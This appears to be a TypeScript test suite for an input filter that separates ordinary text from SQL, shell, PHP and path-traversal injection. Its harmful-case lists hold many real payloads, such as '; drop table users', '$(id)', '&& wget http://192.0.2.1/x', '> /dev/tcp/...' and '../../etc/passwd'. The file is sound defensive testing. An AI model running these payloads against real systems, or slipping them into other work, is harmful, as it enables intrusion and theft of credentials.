import assert from 'node:assert/strict'
import { test } from 'node:test'
import { whyHarmlessCommands } from './commands.ts'
import { stringsOfGraphql } from './graphql.ts'
import { whyHarmlessPaths } from './paths.ts'
import { whyHarmlessPhp } from './php.ts'
import { hasNoSql, whyHarmlessSql } from './sql.ts'
import { lengthMax } from './text.ts'

type Analysis = (value: string) => string | undefined

const bytes = (text: string) => Buffer.from(text, 'utf8').toString('latin1')

/** Attacks stand alone, and in front of, behind and between sentences. */
function surrounded(attack: string): string[] {
  const words = 'please read this text about our table'
  return [attack, `${words} ${attack}`, `${attack} ${words}`, `${words}\n${attack}\n${words}`]
}

function judges(analysis: Analysis, harmless: readonly string[], harmful: readonly string[]): void {
  for (const text of harmless) assert.ok(analysis(bytes(text)), text)
  for (const attack of harmful) {
    for (const text of surrounded(attack)) assert.equal(analysis(bytes(text)), undefined, text)
  }
}

test('SQL: sentences and documents change no statement, and what reads as SQL anywhere in them does', () => {
  judges(
    whyHarmlessSql,
    [
      'Select the items from the list and update your order',
      "It's for Mondays; select & sum",
      'He said "select one from these", and we did.',
      "She looked up; he didn't. -- end of the story",
      'The union of both sets, and the order of the tables',
      '{"where":{"and":[{"title":{"like":"%a%"}},{"id":{"gt":3}}]}}',
      `{"first":20,"filter":{"contains":"o'connor","minVotes":0}}`,
      "l'été (1).jpg",
      "web/lists/getbytitle('Site Pages')/items(7)",
      'what-is-select-from-where',
      'proj/*:env/*:flag/new-page',
      'arn:aws:s3:::photos/*',
      'path/to/css/*',
      'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8',
      'https://example.org/(en);a=1/b?c=1&&d=2--e',
      'sum(orders.price)',
      '1---',
      'NSb8znT+IJZQ9hN9=||sRBSg3CPSiQ=|onN7fu2vKt8/s=|',
    ],
    [
      "1'/**/or/**/1=1--",
      'admin/*',
      'proj/*:env/*:flag/x union select 1,2 from users',
      "x' or 'a'='a",
      "admin' --",
      "1' and sleep(5)",
      '1 or 1=1',
      "O'Brien' or '1'='1",
      "'; drop table users",
      "x' union all select null, null from dual",
      'select password from users where id = 1',
      "insert into users values (1, 'a')",
      'update users set admin = 1',
      "x' order by 5",
      "' || (select 1) || '",
      'case when 1=1 then 2 else 3 end',
      '’ or 1=1',
      '{"user": {"$ne": null}}',
      `{"first":20,"filter":{"contains":"o'connor' or 'a'='a","minVotes":0}}`,
      `{"name":"x'or 1=1","minVotes":0}`,
      "l'or(1).jpg",
      "l'été (select 1).jpg",
      "a'b or 1=1 or 'c",
      "https://example.org/?a='or'1'='1",
      '1-- ',
    ],
  )
})

test('commands: none stands in sentences, and one behind a separator is found', () => {
  judges(
    whyHarmlessCommands,
    [
      "It's for Mondays; select & sum",
      'Find the house by the river; who was there, and when?',
      'a=1&id=5&sort=name',
      'See https://example.org/a?b=1 & the rest of it',
      'query { book(id: 1) { id title } }',
      'exec summary template',
      'java 面试题',
      'proj/*:env/*:flag/new-page',
      'File(s) under embargo',
      'The tour costs $5; tea is $1,250.50 for all.',
      'text/html,application/xhtml xml,*/*;q=0.8',
      `https://example.org/s?id=\${USER_ID}&p=\${PARTNER}&c=\${CACHEBUSTER}`,
    ],
    [
      '; cat /etc/passwd',
      '| id |',
      'find(1);id',
      'file (s); id',
      '`whoami`',
      '$(id)',
      'cat $1 /etc/passwd',
      'c$1at /etc/passwd',
      "; w'h'oami",
      '; w\\hoami',
      ';{cat,/etc/passwd}',
      '&& wget http://192.0.2.1/x',
      '; /usr/bin/who*mi',
      '() { :;}; x',
      '> /dev/tcp/192.0.2.1/80',
      '; X=1 id',
      `cat\${IFS}\${PATH}`,
      `\${SHELL}`,
    ],
  )
})

test('PHP: brackets of sentences call nothing', () => {
  judges(
    whyHarmlessPhp,
    [
      'We met (as always) at noon, and the "others" (both of them) came later.',
      'John (the boss); Mary (the chief) (retired);',
      '[Documentation](https://example.org/docs) and [more](./docs/more.md)',
      'доска объявлений',
      'https://example.org/a?b=1&c=d',
    ],
    [
      '<?php echo 1;',
      "system('id')",
      "'sys'.'tem'('id')",
      '(system)(id)',
      '$_GET[0]',
      'O:8:"stdClass":0:{}',
      'call_user_func',
      '".system(\'id\')."',
      'foo bar\'; strrev("x")("y"); \'',
      "<<<X\nfoo bar\nX; strrev('x')('y');",
      "const A B = 1; strrev('x')('y');",
      'phar://x',
    ],
  )
})

test('SQL: tags that format text are nothing to a statement, and what their attributes hide is', () => {
  const tag = '<p class="x"><img src="https://example.org/a.png" alt="A" width="300" height="200" /></p>'
  assert.ok(hasNoSql(tag))
  assert.ok(!hasNoSql(`${tag}' or '1'='1`))
  assert.ok(!hasNoSql('<i lang="en" title=" or 1=1 -- ">\' or 1=1 -- '))
  assert.ok(!hasNoSql('<i title=" or 1=1 -- ">'))
  assert.ok(!hasNoSql(`<a x="b" y="' or 1=1-- ">`))
})

test('paths: a sentence that mentions a file names none', () => {
  judges(
    whyHarmlessPaths,
    [
      'The settings are in /etc/hosts, as on every system that we know.',
      'https://example.org/docs/etc/passwd',
    ],
    ['../../etc/passwd', '..%2f..%2fetc', 'file:///etc/passwd', '%c0%ae%c0%ae/'],
  )
  assert.equal(whyHarmlessPaths('/etc/passwd'), undefined)
  assert.equal(whyHarmlessPaths('passwd'), undefined)
})

test('GraphQL: whole documents alone, without comments', () => {
  assert.deepEqual(
    stringsOfGraphql(
      'query A($a: [Int!]! = [1]) @b { c: d(e: {f: "g\\u0041", h: $a}) { ...i ... on J { k } } }',
    ),
    ['gA'],
  )
  assert.deepEqual(stringsOfGraphql('{ a } fragment b on C { d(e: """f""") }'), ['f'])
  for (const text of [
    '{ a',
    '{ a } ; id',
    '{ a(b: ) }',
    '{}',
    '{ a # b\n }',
    'query',
    '{ a(b: "c) }',
    '{ `id` }',
  ]) {
    assert.equal(stringsOfGraphql(text), undefined, text)
  }
})

test('time is bounded, whatever the value', () => {
  const pieces = [
    '(',
    "' or ",
    'select a,',
    'or not ',
    '"/',
    '>/',
    '{"a":',
    '{ a ',
    "' ",
    '`a ',
    '; find ',
    ')/*',
    'explain ',
    'a.',
    '$ ',
    '[',
    '--',
    '[[',
    '/a',
    '%a',
  ]
  for (const piece of pieces) {
    const value = piece.repeat(Math.floor(lengthMax / piece.length))
    for (const analysis of [whyHarmlessSql, whyHarmlessCommands, whyHarmlessPhp, whyHarmlessPaths]) {
      const start = process.cpuUsage()
      analysis(value)
      assert.ok(process.cpuUsage(start).user < 2_000_000, `${analysis.name} of ${piece}`)
    }
    assert.equal(whyHarmlessSql(`${value}${value}`), undefined)
  }
})

test('commands: queries of addresses and stacks of errors run nothing, and commands in them do', () => {
  judges(
    whyHarmlessCommands,
    [
      'https://www.example.org/search?q=%C3%96l+%26+Pinsel&sort=price%3Aasc&filter%5Bcolor%5D%5B%5D=red',
      'https://www.example.org/search?q=Öl & Pinsel&sort=price:asc&filter[color][]=red',
      '?q=x&type=list&find=all',
      'customer($select=name),lines($filter=quantity gt 1;$top=5)',
      'Error: x\n    at load (https://www.example.org/a.js?v=1&b=2:1:3)\n    at async Promise.all (index 0)',
      '<!-- wp:image {"id":12,"size":"large"} -->',
      'GET /api/orders',
      '/en/account/orders?page=2&sort=-placed_at&filter[state]=open',
      '$' + '{GDPR_CONSENT_755}',
    ],
    [
      'https://www.example.org/?a=1&&cat /etc/passwd',
      'https://www.example.org/?a=1;id',
      '?q=x&ping 127.0.0.1',
      '?a=$(id)&b=c',
      '/b?n/cat /etc/passwd',
      'at x (https://a.test/;id;:1:2)',
      'customer($select=name;$HOME)',
      '%COMSPEC% /c dir',
      '/usr/bin/id?a=1&b=2',
      '$' + '{IFS}',
    ],
  )
})

test('SQL: labels of lists, tags and messages of parsers are none, and statements beside them are', () => {
  for (const text of [
    '-- select --',
    '-- Bitte wählen --',
    `Unexpected token '<', "<!DOCTYPE "... is not valid JSON`,
  ])
    assert.ok(whyHarmlessSql(bytes(text)), text)
  for (const text of ['<p>First: <strong>sit on it</strong>.</p>', '{"a":"<p>1 <b>new</b></p>"}'])
    assert.ok(hasNoSql(bytes(text)), text)
  for (const text of [
    "-- select -- ' or 1=1",
    "' or 1<b>2 or '</b>",
    "x '<'1",
    '<b>1</b> union select 1',
    `{"a":"' or 'a'='a"}`,
  ])
    assert.ok(!hasNoSql(bytes(text)), text)
})
